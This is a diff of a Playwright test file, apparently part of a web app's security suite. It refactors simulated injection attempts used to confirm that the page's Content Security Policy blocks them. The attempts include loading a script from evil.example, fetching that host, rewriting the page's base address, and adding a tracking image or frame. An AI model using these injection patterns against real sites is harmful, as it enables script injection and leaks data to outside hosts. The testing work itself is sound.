@@ -1,25 +1,23 @@
 import { expect } from '../support/site.ts';
 import { test } from './watchViolations.ts';
 
+/** An element that injected code would add to the page. */
+type Added = [tag: string, properties: Record<string, string>];
+
 /**
  * What injected code would try, each in the page itself, and the directive that
  * stops it. They also show that the other tests here would hear a violation.
  */
-const attempts: Record<string, [attempt: () => unknown, directive: RegExp]> = {
+const attempts: Record<
+  string,
+  [attempt: Added | (() => unknown), directive: RegExp]
+> = {
   'a script with a text of its own': [
-    () => {
-      const script = document.createElement('script');
-      script.textContent = 'document.title = "taken over"';
-      document.body.append(script);
-    },
+    ['script', { textContent: 'document.title = "taken over"' }],
     /^require-trusted-types-for/,
   ],
   'a script from elsewhere': [
-    () => {
-      const script = document.createElement('script');
-      script.src = 'https://evil.example/a.js';
-      document.body.append(script);
-    },
+    ['script', { src: 'https://evil.example/a.js' }],
     /^require-trusted-types-for/,
   ],
   'markup with a handler': [
@@ -47,11 +45,7 @@ const attempts: Record<string, [attempt: () => unknown, directive: RegExp]> = {
     /^trusted-types/,
   ],
   'a style sheet of its own': [
-    () => {
-      const style = document.createElement('style');
-      style.textContent = 'body { display: none }';
-      document.head.append(style);
-    },
+    ['style', { textContent: 'body { display: none }' }],
     /^style-src-elem/,
   ],
   'a style attribute': [
@@ -59,39 +53,20 @@ const attempts: Record<string, [attempt: () => unknown, directive: RegExp]> = {
     /^style-src-attr/,
   ],
   'another base for all addresses': [
-    () => {
-      const base = document.createElement('base');
-      base.href = 'https://evil.example/';
-      document.head.append(base);
-    },
+    ['base', { href: 'https://evil.example/' }],
     /^base-uri/,
   ],
   'a picture that counts readers': [
-    () => {
-      const image = document.createElement('img');
-      image.src = 'https://evil.example/a.png';
-      document.body.append(image);
-    },
+    ['img', { src: 'https://evil.example/a.png' }],
     /^img-src/,
   ],
   'a request to another host': [
     () => void fetch('https://evil.example/').catch(() => undefined),
     /^connect-src/,
   ],
-  'a frame': [
-    () => {
-      const frame = document.createElement('iframe');
-      frame.src = 'https://evil.example/';
-      document.body.append(frame);
-    },
-    /^frame-src/,
-  ],
+  'a frame': [['iframe', { src: 'https://evil.example/' }], /^frame-src/],
   'a plugin': [
-    () => {
-      const plugin = document.createElement('object');
-      plugin.data = '/favicon.svg';
-      document.body.append(plugin);
-    },
+    ['object', { data: '/favicon.svg' }],
     /^require-trusted-types-for/,
   ],
   // Last, because it leaves the page.
@@ -105,6 +80,12 @@ const attempts: Record<string, [attempt: () => unknown, directive: RegExp]> = {
     /^form-action/,
   ],
 };
+
+/** Runs in the page. */
+function add([tag, properties]: Added): void {
+  const element = document.createElement(tag);
+  document.body.append(Object.assign(element, properties));
+}
 
 test.use({ allowedProblems: { 'refused on purpose': /./ } });
 
@@ -122,7 +103,10 @@ test('the policy refuses what injected code would do', async ({
     await test.step(`the policy refuses ${name}`, async () => {
       violations.length = 0;
       // Some of them also throw.
-      await page.evaluate(attempt).catch(() => undefined);
+      const trying = Array.isArray(attempt)
+        ? page.evaluate(add, attempt)
+        : page.evaluate(attempt);
+      await trying.catch(() => undefined);
       await expect
         .poll(() => violations.map(text => text.split(':')[0]).join())
         .toMatch(directive);
